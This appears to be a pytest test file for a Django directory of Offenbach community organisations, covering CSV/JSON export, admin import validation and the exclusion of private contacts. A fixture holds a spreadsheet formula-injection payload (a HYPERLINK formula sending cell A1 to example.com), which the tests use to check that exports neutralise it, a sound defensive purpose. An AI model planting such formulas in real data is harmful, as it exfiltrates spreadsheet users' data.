import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from reversion.models import Version

from offenbach_portal.core import search
from offenbach_portal.core.publication import Status
from orgs.models import Offer, Organisation
from tests.factories import StaffUserFactory, make_organisation

pytestmark = pytest.mark.django_db

C = Offer.Category
SECRET = "Privatnummer 0170 1234567"
EXPECTED_COLUMNS = [
    "slug",
    "name",
    "short_name",
    "kind",
    "status",
    "languages",
    "district",
    "origin_de",
    "origin_en",
    "origin_uk",
    "origin_ru",
    "description_de",
    "description_en",
    "description_uk",
    "description_ru",
    "founded_year",
    "email",
    "phone",
    "website",
    "street",
    "postcode",
    "city",
    "offers",
    "url",
]


@pytest.fixture
def organisations():
    greek = make_organisation(
        "Griechische Gemeinde",
        slug="griechische-gemeinde",
        languages=["el", "de"],
        district="Nordend",
        offers=[(C.CULTURE, "Tanzkurs"), (C.MEETING, "Abendessen")],
        founded_year=1972,
        origin_de="griechisch",
        origin_en="Greek",
        description_uk="Грецька громада, «лапки», кома, і\nновий рядок",
        email="info@example.org",
        phone="069 1234",
        website="https://example.org/",
        street="Speyerstraße 5",
        postcode="63065",
        internal_contact=SECRET,
    )
    mosque = make_organisation(
        "Moscheegemeinde",
        slug="moscheegemeinde",
        kind=Organisation.Kind.RELIGIOUS,
        languages=["tr", "ar"],
        internal_contact=SECRET,
    )
    make_organisation("Sozialamt", slug="sozialamt", kind=Organisation.Kind.CITY_OFFICE, internal_contact=SECRET)
    make_organisation("Entwurf", slug="entwurf", status=Status.DRAFT, internal_contact=SECRET)
    return greek, mosque


def read_csv(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_csv_export_holds_public_fields_of_published_directory_organisations(client, organisations):
    response = client.get("/vereine/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    rows = read_csv(response)
    assert list(rows[0].keys()) == EXPECTED_COLUMNS
    assert [row["slug"] for row in rows] == ["griechische-gemeinde", "moscheegemeinde"]
    greek = rows[0]
    assert greek["languages"] == "de,el"
    assert greek["district"] == "Nordend"
    assert greek["description_uk"] == "Грецька громада, «лапки», кома, і\nновий рядок"
    assert greek["offers"] == "Kultur: Tanzkurs | Begegnung: Abendessen"
    assert greek["url"] == "http://testserver/vereine/griechische-gemeinde/"
    assert greek["founded_year"] == "1972"


def test_json_export_holds_public_fields_of_published_directory_organisations(client, organisations):
    response = client.get("/vereine/export.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    data = json.loads(response.content)
    assert data["count"] == 2
    greek = data["organisations"][0]
    assert sorted(greek) == sorted(
        [
            "slug",
            "name",
            "short_name",
            "kind",
            "kind_label",
            "origin",
            "languages",
            "district",
            "description",
            "founded_year",
            "contact",
            "offers",
            "logo",
            "url",
            "updated_at",
        ]
    )
    assert greek["languages"] == [{"code": "de", "name": "Deutsch"}, {"code": "el", "name": "Griechisch"}]
    assert greek["contact"] == {
        "email": "info@example.org",
        "phone": "069 1234",
        "website": "https://example.org/",
        "street": "Speyerstraße 5",
        "postcode": "63065",
        "city": "Offenbach am Main",
    }
    assert greek["offers"][0] == {
        "title": {"de": "Tanzkurs", "en": "", "uk": "", "ru": ""},
        "category": "kultur",
        "category_label": "Kultur",
        "schedule": {"de": "", "en": "", "uk": "", "ru": ""},
        "languages": ["de", "el"],
    }
    assert greek["origin"] == {"de": "griechisch", "en": "Greek", "uk": "", "ru": ""}


@pytest.mark.parametrize("path", ["/vereine/export.csv", "/vereine/export.json", "/en/vereine/export.csv"])
def test_exports_never_contain_the_internal_contact(client, organisations, path):
    content = client.get(path).content.decode()
    assert "0170" not in content
    assert "internal" not in content


def test_admin_export_never_contains_the_internal_contact(admin_client, organisations):
    response = admin_client.post(
        "/admin/orgs/organisation/export/",
        {"format": "0", "resource": "0", **{f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS}},
    )
    assert response.status_code == 200
    content = response.content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert list(rows[0].keys()) == EXPECTED_COLUMNS
    assert sorted(row["slug"] for row in rows) == ["entwurf", "griechische-gemeinde", "moscheegemeinde", "sozialamt"]
    assert "0170" not in content


def _admin_import(client, content, filename="vereine.csv"):
    """Upload a CSV to the admin import (the preview), then confirm it if it can be confirmed."""
    upload = SimpleUploadedFile(filename, content.encode("utf-8"), content_type="text/csv")
    preview = client.post("/admin/orgs/organisation/import/", {"format": "0", "resource": "0", "import_file": upload})
    assert preview.status_code == 200
    confirm_form = preview.context.get("confirm_form")
    if confirm_form is None:
        return preview, None
    confirmed = client.post("/admin/orgs/organisation/process_import/", confirm_form.initial)
    return preview, confirmed


def _public_state():
    state = []
    for organisation in Organisation.objects.order_by("slug").prefetch_related("languages"):
        state.append(
            (
                organisation.slug,
                organisation.name,
                organisation.short_name,
                organisation.kind,
                organisation.status,
                organisation.district.name if organisation.district else None,
                sorted(language.code for language in organisation.languages.all()),
                organisation.origin_de or "",
                organisation.origin_en or "",
                organisation.description_de or "",
                organisation.description_uk or "",
                organisation.founded_year,
                organisation.email,
                organisation.phone,
                organisation.website,
                organisation.street,
                organisation.postcode,
                organisation.city,
            )
        )
    return state


def test_export_then_import_into_empty_database_gives_the_same_organisations(client, admin_client, organisations):
    exported = client.get("/vereine/export.csv").content.decode("utf-8")
    Organisation.objects.exclude(slug__in=["griechische-gemeinde", "moscheegemeinde"]).delete()
    before = _public_state()
    Organisation.objects.all().delete()
    assert Organisation.objects.count() == 0

    preview, confirmed = _admin_import(admin_client, exported)
    assert [row.import_type for row in preview.context["result"].rows] == ["new", "new"]
    assert confirmed.status_code == 302
    assert _public_state() == before
    assert Organisation.objects.get(slug="griechische-gemeinde").internal_contact == ""


def test_import_records_history(admin_client, organisations):
    exported = admin_client.get("/vereine/export.csv").content.decode("utf-8")
    Organisation.objects.all().delete()
    _admin_import(admin_client, exported)
    greek = Organisation.objects.get(slug="griechische-gemeinde")
    versions = Version.objects.get_for_object(greek)
    assert [version.revision.comment for version in versions] == ["CSV-Import"]
    assert versions[0].revision.user.username == "admin"


def test_import_updates_by_slug_and_keeps_the_internal_contact(admin_client, organisations):
    content = (
        "slug,name,kind,languages,district,description_de\n"
        'griechische-gemeinde,Griechische Gemeinde Offenbach,verein,"el,de,en",Bieber,Neue Beschreibung\n'
    )
    preview, confirmed = _admin_import(admin_client, content)
    assert [row.import_type for row in preview.context["result"].rows] == ["update"]
    greek = Organisation.objects.get(slug="griechische-gemeinde")
    assert greek.name == "Griechische Gemeinde Offenbach"
    assert greek.district.name == "Bieber"
    assert sorted(greek.languages.values_list("code", flat=True)) == ["de", "el", "en"]
    assert greek.internal_contact == SECRET
    assert greek.founded_year == 1972  # not in the file, so not touched


BROKEN = (
    "slug,name,kind,languages,district,description_de,founded_year\n"
    "neuer-verein,Neuer Verein,verein,de,Nordend,Ein guter Verein,2001\n"
    "kaputt-1,Verein mit falscher Art,fussballclub,de,Nordend,Text,2001\n"
    'kaputt-2,Verein mit falscher Sprache,verein,"de,klingonisch",Nordend,Text,2001\n'
    "kaputt-3,Verein im Nirgendwo,verein,de,Atlantis,Text,2001\n"
    "kaputt-4,Verein ohne Beschreibung,verein,de,Nordend,,2001\n"
    "kaputt-5,Verein aus der Zukunft,verein,de,Nordend,Text,3001\n"
    ",Verein ohne Slug,verein,de,Nordend,Text,2001\n"
)


def test_broken_import_reports_each_bad_row_and_imports_nothing(admin_client, organisations):
    count = Organisation.objects.count()
    preview, confirmed = _admin_import(admin_client, BROKEN)
    assert confirmed is None
    result = preview.context["result"]
    invalid = {row.number: sorted(row.error_dict) for row in result.invalid_rows}
    assert invalid == {
        2: ["kind"],
        3: ["languages"],
        4: ["district"],
        5: ["description_de"],
        6: ["founded_year"],
        7: ["slug"],
    }
    html = preview.content.decode()
    assert "Unbekannte Sprachcodes: klingonisch" in html
    assert "Unbekannter Stadtteil „Atlantis“" in html
    assert Organisation.objects.count() == count
    assert not Organisation.objects.filter(slug="neuer-verein").exists()


def test_broken_import_cannot_be_forced_through_the_confirm_step(admin_client, organisations):
    """Even if someone posts the confirmation for a file with bad rows, nothing is imported."""
    good = "slug,name,kind,languages,district,description_de\nneuer-verein,Neuer Verein,verein,de,Nordend,Gut\n"
    upload = SimpleUploadedFile("gut.csv", good.encode(), content_type="text/csv")
    preview = admin_client.post("/admin/orgs/organisation/import/", {"format": "0", "resource": "0", "import_file": upload})
    initial = preview.context["confirm_form"].initial
    storage_path = preview.context["confirm_form"].initial["import_file_name"]
    from import_export.tmp_storages import TempFolderStorage

    TempFolderStorage(name=storage_path).save(BROKEN)
    admin_client.post("/admin/orgs/organisation/process_import/", initial)
    assert not Organisation.objects.filter(slug__in=["neuer-verein", "kaputt-1"]).exists()


def test_import_of_a_file_that_is_not_csv_reports_an_error(admin_client, organisations):
    preview, confirmed = _admin_import(admin_client, "\x00\x01 das ist keine Tabelle")
    assert confirmed is None
    assert Organisation.objects.count() == 4


def test_import_needs_add_and_change_permission(client, organisations):
    client.force_login(
        StaffUserFactory(username="nur-lesen", groups=[], permissions=["orgs.view_organisation", "orgs.change_organisation"])
    )
    assert client.get("/admin/orgs/organisation/import/").status_code == 403


@pytest.fixture
def formula_organisation():
    return make_organisation(
        '=HYPERLINK("https://example.com/?d="&A1,"Klick")',
        slug="formel",
        short_name="@SUMME(1)",
        description_de="-2+3",
        phone="+49 69 1234",
        street="\tTabstraße 1",
        origin_de="=1+1 griechisch",
    )


def test_csv_export_neutralises_cells_that_spreadsheets_read_as_formulas(client, formula_organisation):
    row = read_csv(client.get("/vereine/export.csv"))[0]
    assert row["name"] == '\'=HYPERLINK("https://example.com/?d="&A1,"Klick")'
    assert row["short_name"] == "'@SUMME(1)"
    assert row["description_de"] == "'-2+3"
    assert row["phone"] == "'+49 69 1234"
    assert row["street"] == "'\tTabstraße 1"
    assert row["origin_de"] == "'=1+1 griechisch"
    assert row["postcode"] == ""
    assert row["city"] == "Offenbach am Main"


def test_json_export_keeps_values_that_look_like_formulas(client, formula_organisation):
    organisation = json.loads(client.get("/vereine/export.json").content)["organisations"][0]
    assert organisation["name"] == '=HYPERLINK("https://example.com/?d="&A1,"Klick")'
    assert organisation["contact"]["phone"] == "+49 69 1234"


def test_admin_csv_export_neutralises_formulas(admin_client, formula_organisation):
    response = admin_client.post(
        "/admin/orgs/organisation/export/",
        {"format": "0", "resource": "0", **{f"organisationresource_{name}": "on" for name in EXPECTED_COLUMNS}},
    )
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert row["name"] == '\'=HYPERLINK("https://example.com/?d="&A1,"Klick")'
    assert row["phone"] == "'+49 69 1234"


def test_neutralised_export_imports_to_the_original_values(client, admin_client, formula_organisation):
    exported = client.get("/vereine/export.csv").content.decode("utf-8")
    before = _public_state()
    Organisation.objects.all().delete()
    preview, confirmed = _admin_import(admin_client, exported)
    assert confirmed.status_code == 302
    assert _public_state() == before
    assert Organisation.objects.get().phone == "+49 69 1234"


def test_import_keeps_an_apostrophe_that_does_not_guard_a_formula(admin_client):
    content = "slug,name,kind,description_de\nsalam,'Salam' Verein,verein,'n Treffpunkt\n"
    _admin_import(admin_client, content)
    organisation = Organisation.objects.get(slug="salam")
    assert (organisation.name, organisation.description_de) == ("'Salam' Verein", "'n Treffpunkt")


def _many(count):
    with search.indexing_suspended():  # no export reads the search index
        for number in range(count):
            make_organisation(
                f"Verein {number:02d}", languages=["de", "ar"], district="Nordend", offers=[(C.HOMEWORK, "Hilfe"), (C.SPORT, "Fußball")]
            )


@pytest.mark.parametrize("count", [30, 300])
@pytest.mark.parametrize(
    "path, queries",
    # Organisations with district, their languages, offers, offer languages: no count, no query per chunk of rows.
    [("/vereine/export.csv", 4), ("/vereine/export.json", 4)],
)
def test_export_query_count_does_not_grow(client, django_assert_num_queries, path, queries, count):
    _many(count)
    with django_assert_num_queries(queries):
        response = client.get(path)
    assert response.status_code == 200


def test_import_refuses_a_slug_that_appears_twice_in_the_file(admin_client):
    content = (
        "slug,name,kind,description_de\n"
        "neuer-verein,Neuer Verein,verein,Erste Zeile\n"
        "anderer-verein,Anderer Verein,verein,Text\n"
        "neuer-verein,Neuer Verein zum Zweiten,verein,Dritte Zeile\n"
    )
    preview, confirmed = _admin_import(admin_client, content)
    assert confirmed is None
    assert {row.number: row.error_dict["slug"] for row in preview.context["result"].invalid_rows} == {
        3: ["Die Adresse (Slug) „neuer-verein“ steht schon in Zeile 1 dieser Datei."]
    }
    assert Organisation.objects.count() == 0


def test_import_says_when_the_founding_year_is_not_a_year(admin_client):
    content = "slug,name,kind,description_de,founded_year\nneuer-verein,Neuer Verein,verein,Text,neunzehnhundert\n"
    preview, confirmed = _admin_import(admin_client, content)
    assert confirmed is None
    assert {row.number: row.error_dict for row in preview.context["result"].invalid_rows} == {
        1: {"founded_year": ["„neunzehnhundert“ ist keine Jahreszahl."]}
    }
    assert "„neunzehnhundert“ ist keine Jahreszahl." in preview.content.decode()
    assert Organisation.objects.count() == 0


def test_reimporting_the_export_reports_every_row_unchanged_and_writes_no_history(admin_client, organisations):
    exported = admin_client.get("/vereine/export.csv").content.decode("utf-8")
    before = _public_state()
    versions = Version.objects.count()
    preview, confirmed = _admin_import(admin_client, exported)
    assert [row.import_type for row in preview.context["result"].rows] == ["skip", "skip"]
    assert confirmed.status_code == 302
    assert _public_state() == before
    assert Version.objects.count() == versions


def test_import_of_empty_cells_over_empty_translations_is_unchanged(admin_client, organisations):
    greek = Organisation.objects.get(slug="griechische-gemeinde")
    Organisation.objects.filter(pk=greek.pk).update(origin_en=None, description_ru=None)
    languages = ",".join(sorted(greek.languages.values_list("code", flat=True)))
    content = (
        "slug,name,kind,languages,district,description_de,origin_en,description_ru\n"
        f'griechische-gemeinde,{greek.name},{greek.kind},"{languages}",{greek.district.name},"{greek.description_de}",,\n'
    )
    preview, _confirmed = _admin_import(admin_client, content)
    assert [row.import_type for row in preview.context["result"].rows] == ["skip"]
    greek.refresh_from_db()
    assert (greek.origin_en, greek.description_ru) == (None, None)
